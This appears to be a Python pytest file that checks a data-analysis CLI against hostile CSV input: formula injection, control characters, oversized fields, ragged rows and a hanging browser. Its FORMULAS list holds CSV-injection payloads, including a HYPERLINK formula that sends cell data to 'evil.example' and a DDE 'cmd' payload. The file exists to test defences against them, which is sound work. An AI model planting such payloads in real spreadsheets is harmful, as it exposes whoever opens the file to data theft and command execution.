"""Hostile input through the command line: formulas, control characters, oversized fields,
ragged rows and a broken browser. Each refusal is exit 2, one line, no manifest."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import psutil
import pytest

from analysis import config
from tests.conftest import RAW_COLUMNS, assert_refused, make_row, write_csv

pytestmark = pytest.mark.integration
ACLED_SAMPLE = config.PROJECT_ROOT / "tests" / "fixtures" / "acled_sample.csv"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
# In a page, a control character may also be written as an escape (JSON, JavaScript, HTML).
ESCAPED_CONTROL = re.compile(r"\\u00(0[0-8bcef]|1[0-9a-f]|7f)|\\x[01][0-9a-f]|\\x7f|\\r"
                             r"|&#(x0*([0-8bcef]|1[0-9a-f]|7f)|0*([0-8]|1[1-9]|2[0-9]|3[01]|127));",
                             re.IGNORECASE)
MARKER = "zqmark"
HOSTILE_TEXT = f"{MARKER}\x00nul \x01soh \x1b[31mescape\x7f del\rcr\tafter\nline two"


def _run(*args: str, env: dict[str, str] | None = None,
         timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "analysis", "run", *args], capture_output=True,
                          text=True, cwd=config.PROJECT_ROOT, timeout=timeout,
                          env={**os.environ, **(env or {})})


def _run_input(path: Path, out: Path, **kwargs) -> subprocess.CompletedProcess:
    return _run("--input", str(path), "--out", str(out), "-p", "export_static", "false",
                **kwargs)


def _acled_lines() -> list[str]:
    return ACLED_SAMPLE.read_text(encoding="utf-8").splitlines()


def _acled_with(path: Path, edit) -> Path:
    """The ACLED fixture with its data rows changed by ``edit(rows)``."""
    with ACLED_SAMPLE.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    edit(rows)
    return write_csv(path, list(rows[0]), rows)


def _csv_tables(out: Path) -> list[Path]:
    return sorted((out / "tables").glob("*.csv"))


# 1. Spreadsheet formulas --------------------------------------------------------------------

def test_project_format__formulas_are_neutralised_in_csv_and_kept_in_parquet(tmp_path):
    rows = [make_row(report_id=f"r-{n}", event_date=f"2023-11-0{n + 1}", summary=text,
                     outlet=FORMULAS[-1 - n], source_url=f"https://example.org/{n}")
            for n, text in enumerate(FORMULAS)]
    raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, rows)
    done = _run_input(raw, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    incidents = pd.read_csv(tmp_path / "out" / "tables" / "incidents.csv", dtype=str,
                            keep_default_na=False)
    assert sorted(incidents["summary"]) == sorted(f"'{text}" for text in FORMULAS)
    assert sorted(incidents["outlets"]) == sorted(f"'{text}" for text in FORMULAS)
    for table in _csv_tables(tmp_path / "out"):
        with table.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), table
    parquet = pd.read_parquet(tmp_path / "out" / "tables" / "incidents.parquet")
    assert sorted(parquet["summary"]) == sorted(FORMULAS)
    assert parquet["latitude"].astype(float).tolist() == incidents["latitude"].astype(
        float).tolist()


def test_acled__notes_and_source_formulas_are_neutralised(tmp_path):
    def edit(rows: list[dict[str, str]]) -> None:
        rows[0].update(notes=FORMULAS[0], source=FORMULAS[3])

    export = _acled_with(tmp_path / "acled.csv", edit)
    done = _run_input(export, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "out" / "tables" / "incidents.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text
    assert "'@SUM(A1:A9)" in text
    assert ",=HYPERLINK" not in text
    assert ",@SUM" not in text


# 2. Control characters ----------------------------------------------------------------------

def _assert_no_control_characters(out: Path) -> None:
    """No control character in any CSV; none, raw or escaped, after a marker in any page."""
    for table in _csv_tables(out):
        found = CONTROL.search(table.read_text(encoding="utf-8"))
        assert found is None, (table.name, repr(found and found.group()))
    pages = [out / "report.html", *(out / "figures").glob("*.html")]
    shown = 0
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for hit in re.finditer(MARKER, text):
            shown += 1
            window = text[hit.start():hit.start() + 60]
            assert not CONTROL.search(window), (page.name, window)
            assert not ESCAPED_CONTROL.search(window), (page.name, window)
    assert shown, "the hostile text reached no page: the test checks nothing"


def test_project_format__control_characters_are_stripped(tmp_path):
    rows = [make_row(summary=HOSTILE_TEXT, outlet="Out\x00let"),
            make_row(report_id=f"{MARKER}\x00-\x1b2", event_date="2023-11-02", confidence="low",
                     summary="ok", source_url="https://example.org/2")]
    raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, rows)
    done = _run_input(raw, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    _assert_no_control_characters(tmp_path / "out")
    incidents = pd.read_parquet(tmp_path / "out" / "tables" / "incidents.parquet")
    assert f"{MARKER}nul soh [31mescape del" in " ".join(incidents["summary"])
    assert "Outlet" in " ".join(incidents["outlets"])


def test_acled__control_characters_are_stripped(tmp_path):
    def edit(rows: list[dict[str, str]]) -> None:
        rows[0].update(notes=HOSTILE_TEXT, source="Out\x00let", event_id_cnty="FXIRQ\x1b0001")
        rejected = next(row for row in rows if row["event_id_cnty"] == "FXIRQ0007")
        rejected["event_id_cnty"] = f"{MARKER}\x00\x1bFXIRQ0007"

    export = _acled_with(tmp_path / "acled.csv", edit)
    done = _run_input(export, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    _assert_no_control_characters(tmp_path / "out")
    assert "FXIRQ0001" in (tmp_path / "out" / "tables" / "incidents.csv").read_text()
    assert f"{MARKER}FXIRQ0007" in (tmp_path / "out" / "tables" / "rejected.csv").read_text()


# 3. Oversized fields and ragged rows --------------------------------------------------------

def test_project_format__oversized_field_exits_2_naming_row_and_column(tmp_path):
    rows = [make_row(), make_row(report_id="r-2", summary="x" * 200_000)]
    raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, rows)
    assert_refused(_run_input(raw, tmp_path / "out"), tmp_path / "out", str(raw), "row 3",
                    "column 'summary'")


def test_acled__oversized_field_exits_2_naming_row_and_column(tmp_path):
    def edit(rows: list[dict[str, str]]) -> None:
        rows[0]["notes"] = "y" * 200_000

    export = _acled_with(tmp_path / "acled.csv", edit)
    assert_refused(_run_input(export, tmp_path / "out"), tmp_path / "out", str(export),
                    "row 2", "column 'notes'")


def test_project_format__short_row_exits_2_naming_the_row(tmp_path):
    raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, [make_row(), make_row(report_id="r-2")])
    with raw.open("a", encoding="utf-8") as handle:
        handle.write("just,three,fields\n")
    assert_refused(_run_input(raw, tmp_path / "out"), tmp_path / "out", str(raw), "row 4",
                    f"expected {len(RAW_COLUMNS)} fields per row", "found 3")


def test_acled__short_row_exits_2_naming_the_row(tmp_path):
    lines = _acled_lines()
    export = tmp_path / "acled.csv"
    export.write_text("\n".join([*lines[:4], "junk junk", *lines[4:]]) + "\n", encoding="utf-8")
    assert_refused(_run_input(export, tmp_path / "out"), tmp_path / "out", str(export),
                    "row 5", "expected 31 fields per row", "found 1")


def test_project_format__header_over_20_mb_of_junk_exits_2_in_seconds(tmp_path):
    raw = write_csv(tmp_path / "raw.csv", RAW_COLUMNS, [make_row()])
    junk = "junk line without commas " * 3 + "\n"
    with raw.open("a", encoding="utf-8") as handle:
        handle.write(junk * (20_000_000 // len(junk)))
    assert raw.stat().st_size > 20_000_000
    began = time.perf_counter()
    done = _run_input(raw, tmp_path / "out", timeout=120)
    assert_refused(done, tmp_path / "out", str(raw), "row 3")
    assert time.perf_counter() - began < 20


# 4. A broken browser ------------------------------------------------------------------------

def _fake_browser(path: Path, version: str | None) -> Path:
    """A script that sleeps; with ``version``, it answers --version first, like Chrome."""
    answer = f'if [ "$1" = "--version" ]; then echo "{version}"; exit 0; fi\n' if version else ""
    path.write_text(f"#!/bin/sh\n{answer}echo $$ >> {path}.pids\nexec sleep 300\n")
    path.chmod(0o755)
    return path


def _assert_no_browser_left(script: Path) -> None:
    """Every process the fake browser started is gone (a zombie no one reaped counts as gone)."""
    pids = Path(f"{script}.pids")
    for pid in map(int, pids.read_text().split() if pids.exists() else []):
        try:
            alive = psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
        except psutil.NoSuchProcess:
            alive = False
        assert not alive, f"fake browser {pid} still running"


def test_run__browser_path_that_sleeps_finishes_with_html_and_one_warning(tmp_path):
    browser = _fake_browser(tmp_path / "sleepy-chrome", version=None)
    out = tmp_path / "out"
    began = time.perf_counter()
    done = _run("--out", str(out), "-p", "freq", "quarter", env={"BROWSER_PATH": str(browser)},
                timeout=120)
    assert done.returncode == 0, done.stderr
    assert time.perf_counter() - began < 40
    warnings = [line for line in done.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1, done.stderr
    assert "BROWSER_PATH" in warnings[0]
    assert str(browser) in warnings[0]
    assert len(list((out / "figures").glob("*.html"))) == 8
    assert not list((out / "figures").glob("*.png"))
    assert not [p for p in out.iterdir() if p.name.startswith(".staging-")]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["counts"]["incidents"] > 0
    _assert_no_browser_left(browser)


def test_write_static__browser_that_hangs_after_version_is_stopped_at_the_deadline(
        tmp_path, monkeypatch, caplog):
    import logging

    import plotly.graph_objects as go

    from analysis.charts import export

    browser = _fake_browser(tmp_path / "liar-chrome", version="Chromium 120.0.0.0")
    monkeypatch.setenv("BROWSER_PATH", str(browser))
    monkeypatch.setenv("ANALYSIS_STATIC_EXPORT_TIMEOUT", "4")
    began = time.perf_counter()
    with caplog.at_level(logging.WARNING):
        written = export.export_figures({"bars": go.Figure(go.Bar(x=[1], y=[2]))},
                                        tmp_path / "figures")
    assert time.perf_counter() - began < 20
    assert [p.name for p in written["html"]] == ["bars.html"]
    assert written["static"] == []
    assert "ANALYSIS_STATIC_EXPORT_TIMEOUT" in caplog.text
    assert str(browser) in caplog.text
    time.sleep(0.5)
    _assert_no_browser_left(browser)
